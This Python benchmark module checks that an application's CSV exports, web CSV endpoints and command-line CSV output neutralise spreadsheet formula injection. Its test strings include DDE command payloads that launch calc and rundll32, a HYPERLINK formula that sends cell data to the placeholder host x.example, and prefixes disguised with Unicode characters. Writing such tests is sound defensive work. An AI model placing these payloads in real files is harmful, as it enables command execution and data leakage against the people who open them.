"""Texts that a spreadsheet would run, through every field and every file that one opens: none comes to run.

What would run is told by a rule of its own, not by that of the software: what is left of a cell's beginning when blanks
and unseen characters are taken away and wide letters made narrow.
"""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
import unicodedata
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from starlette.testclient import TestClient
from typer.testing import CliRunner

from bench.reliability.outcome import Outcome, Scale
from bench.reliability.planted import plant
from onrecord.cli.app import app
from onrecord.export.files import EVENT_FORMATS
from onrecord.export.row_files import unguarded
from onrecord.export.rows import TABLES
from onrecord.query.exports import Form, export_record
from onrecord.query.lists import LISTS
from onrecord.record.file import Record
from onrecord.web.app import desk_app

_BODIES = (
    '{}HYPERLINK("https://x.example/?"&A1,"open")',
    "{}cmd|' /C calc'!A0",
    "{}1+1",
    '{}DDE("cmd";"/C calc";"x")',
    "{}SUM(1,1)*cmd|' /C calc'!A0",
    '{}WEBSERVICE("https://x.example")',
    '{}IMPORTXML("https://x.example","//a")',
    "{}rundll32|'URL.dll,OpenURL x.example'!A",
    "{}A1:Z99",
    "{} leading words",
    "{}1",
    "{}",
)
_SIGNS = (*"=+-@", *"\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b")
_BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\u2028",
    "\x0b",
    "\x1f",
    "\u00ad",
    " \t \r\n",
)
_OTHERS = (
    "'=1+1",
    "''=1+1",
    "'",
    "'Tis a plain text",
    '"=1+1',
    '"""=1+1',
    "a,=1+1",
    'a"\n=1+1',
    "a;=1+1",
    "|=1+1",
    "%=1+1",
    "\u2019=1+1",
    "=\u200b1",
    "==1",
    "--1",
    "+-1",
    "@@1",
    "-1.5",
    "+3",
    "-",
    "1e5",
    "-1e5",
    "+49 30 1234",
    "1-2",
    "a=1",
)
_SHORT = 7
_EACH = 12
_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]*)?([eE][+-]?[0-9]+)?|[+-]?\.[0-9]+([eE][+-]?[0-9]+)?")
_LISTED = ("articles", "actors", "statements", "events", "stories", "claims", "discrepancies", "problems")


@dataclass
class Read:
    """How many files and cells were read, which cells would run, and which do not give their text back."""

    files: int = 0
    cells: int = 0
    running: list[str] = field(default_factory=list)
    lost: list[str] = field(default_factory=list)

    def take(self, name: str, text: str, rows: Sequence[Mapping[str, Any]] | None = None) -> None:
        """Read a CSV file as programs do; where its `rows` are known, see whether it holds them."""
        self.files += 1
        table = list(csv.reader(io.StringIO(text, newline="")))
        self.cells += sum(map(len, table))
        self.running += [f"{name}: {cell[:80]!r}" for row in table for cell in row if runs(cell)]
        if rows is not None:
            self.lost += [f"{name}: {what}" for what in _lost(table, rows)]


def runs(cell: str) -> bool:
    """Say whether a spreadsheet may take a cell for a formula.

    >>> runs("=1+1"), runs(" \uff1d1"), runs("-1.5"), runs("'=1+1"), runs("plain")
    (True, True, False, False, False)
    """
    seen = "".join(c for c in cell if unicodedata.category(c)[0] not in "ZC")
    return unicodedata.normalize("NFKC", seen[:1])[:1] in tuple("=+-@") and not _NUMBER.fullmatch(cell)


def words(every: int = 1) -> tuple[str, ...]:
    """Return the texts; every so-manieth of those that are put together from their parts."""
    made = [before + body.format(sign) for before in _BEFORE for sign in _SIGNS for body in _BODIES]
    return (*made[::every], *_OTHERS)


def measure(scale: Scale) -> Outcome:
    """Plant the texts, write every file that a spreadsheet opens, and read it."""
    given, found = words(_SHORT if scale is Scale.SHORT else 1), Read()
    with tempfile.TemporaryDirectory() as folder:
        path = plant(Path(folder) / "record.db", given, _EACH)
        with Record.open(path, readonly=True) as record:
            _exported(found, record, Path(folder))
            _listed(found, record, path)
        _printed(found, path)
    return outcome(len(given), found)


def outcome(given: int, found: Read) -> Outcome:
    """Count what was read, and name each cell that would run or gives back another text."""
    figures = {
        "texts": given,
        "files": found.files,
        "cells": found.cells,
        "cells that would run": len(found.running),
        "cells that give back another text": len(found.lost),
    }
    return Outcome(figures, (*(f"would run: {one}" for one in found.running), *(f"lost: {one}" for one in found.lost)))


def _exported(found: Read, record: Record, folder: Path) -> None:
    snapshot = record.snapshot()
    for form in (Form.CSV, *(Form(name) for name in EVENT_FORMATS)):
        for path in export_record(snapshot, form, folder / form, None, lambda _: None):
            rows = next((list(t.make(snapshot)) for t in TABLES if form is Form.CSV and t.name == path.stem), None)
            found.take(f"{form}/{path.name}", path.read_bytes().decode("utf-8"), rows)


def _listed(found: Read, record: Record, path: Path) -> None:
    desk = TestClient(desk_app(path), base_url="http://localhost")
    for name, listed in LISTS.items():
        rows = list(listed.every(record.connection, listed.filter()))
        found.take(f"/api/{name}.csv", desk.get(f"/api/{name}.csv").content.decode("utf-8"), rows)


def _printed(found: Read, path: Path) -> None:
    asked = [[name, "--limit", "0"] for name in _LISTED]
    asked += [
        ["sql", f'SELECT outlet AS "{name}", title AS "a{name}" FROM article'] for name in ("=1+1", "\uff1d1", "@x")
    ]
    for arguments in [*asked, ["grade", "--list", "--limit", "0"], ["judge", "--list", "--limit", "0"]]:
        ended = CliRunner().invoke(app, [*arguments, "--csv", "--record", str(path)])
        if ended.exit_code:
            found.lost.append(f"{arguments[0]}: it ended with {ended.exit_code}: {ended.output[-200:]}")
        found.take(f"onrecord {arguments[0]} --csv", ended.stdout_bytes.decode("utf-8"))


def _lost(table: Sequence[Sequence[str]], rows: Sequence[Mapping[str, Any]]) -> Iterator[str]:
    """Say which cells, read back, are not what their row holds."""
    header, *lines = table
    if len(lines) != len(rows):
        yield f"{len(lines)} rows of {len(rows)}"
        return
    for cells, row in zip(lines, rows, strict=True):
        for name, cell in zip(map(unguarded, header), cells, strict=True):
            if not _same(cell, row[name]):
                yield f"{name}: {cell[:80]!r} for {str(row[name])[:80]!r}"


def _same(cell: str, value: object) -> bool:
    if value is None:
        return cell == ""
    if isinstance(value, str):
        return unguarded(cell) == value
    return bool(json.loads(cell) == json.loads(json.dumps(value)))
